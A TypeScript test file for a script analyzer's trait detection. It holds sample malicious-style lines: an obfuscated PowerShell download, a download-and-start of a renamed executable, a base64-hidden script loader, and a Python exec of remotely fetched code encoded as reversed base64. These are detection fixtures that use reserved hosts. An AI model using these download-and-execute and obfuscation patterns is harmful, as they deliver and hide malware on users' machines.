// Traits that are read, not searched for: texts that show one and at least as many that come close. Traits of words have theirs
// in their rules. Addresses are reserved ones.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { ScriptLanguage } from '../../../src/data/script-languages.ts'
import { readScript } from '../../../src/file/formats/script/read.ts'

type Text = readonly [ScriptLanguage, string]
interface Cases {
  readonly hits: Readonly<Record<string, Text>>
  readonly misses: Readonly<Record<string, Text>>
}

const TRAITS: Readonly<Record<string, Cases>> = {
  script_source_decoded: {
    hits: {
      'on the spot': [
        'javascript',
        'var e = document.createElement("script"); e.async = 1; e.src = window.atob("aHR0cHM6Ly94LmV4YW1wbGUv") + id; head.appendChild(e)',
      ],
    },
    misses: {
      'in the open': [
        'javascript',
        'var e = document.createElement("script"); e.src = "https://cdn.example/a.js"; head.appendChild(e)',
      ],
      'a picture': [
        'javascript',
        'var i = document.createElement("img"); i.src = "data:image/png;base64," + btoa(bytes)',
      ],
    },
  },
  ps_words_in_odd_case: {
    hits: {
      'a download': [
        'powershell',
        "$w=NeW-oBJeCT SySTem.NeT.WeBClIeNt; $w.DoWNLoaDStRiNG('https://files.example/a'); $w.HEaDeRS.ADd('a','b')",
      ],
    },
    misses: {
      'as documentation has it': [
        'powershell',
        "$w=New-Object System.Net.WebClient; $w.DownloadString('https://files.example/a'); $w.Headers.Add('a','b')",
      ],
      'small and capital': [
        'powershell',
        "$w=new-object system.net.webclient; $w.downloadstring('https://files.example/a'); INVOKE-EXPRESSION $a",
      ],
      'slips of a key': [
        'powershell',
        "$w=NEw-Object System.Net.Webclient; $w.DownLoadString('https://files.example/a'); $w.headers.Add('a','b')",
      ],
    },
  },
  kept_under_other_name: {
    hits: {
      'a name that has nothing of the first': [
        'powershell',
        '$w.DownloadFile(\'https://files.example/qolcls.exe\',"$env:TEMP\\viewer.exe"); Start-Process ("$env:TEMP\\viewer.exe")',
      ],
    },
    misses: {
      'a shorter name': [
        'powershell',
        '$w.DownloadFile(\'https://files.example/viewer-2.1-x64.exe\',"$env:TEMP\\viewer.exe"); Start-Process ("$env:TEMP\\viewer.exe")',
      ],
      'kept, and not started': [
        'powershell',
        '$w.DownloadFile(\'https://files.example/qolcls.exe\',"$env:TEMP\\viewer.exe"); Start-Process notepad',
      ],
    },
  },
}

for (const [id, { hits, misses }] of Object.entries(TRAITS)) {
  const shows = ([language, text]: Text): boolean =>
    readScript(text, language).facts.traits.some((trait) => trait.id === id)
  for (const [name, text] of Object.entries(hits)) test(`${id} is seen: ${name}`, () => assert.ok(shows(text)))
  for (const [name, text] of Object.entries(misses)) test(`${id} is not seen: ${name}`, () => assert.ok(!shows(text)))
}

test('base64 written backwards is read, its padding in front', () => {
  const plain = `import os\nexec(__import__('urllib.request').request.urlopen('http://203.0.113.7/a.py').read())\n# ${'x'.repeat(7)}`
  const turned = [...Buffer.from(plain).toString('base64')].reverse().join('')
  assert.match(turned, /^=/)
  const { urls } = readScript(`exec((_)(b'${turned}'))`, 'python').facts
  assert.deepEqual(urls, ['http://203.0.113.7/a.py'])
})
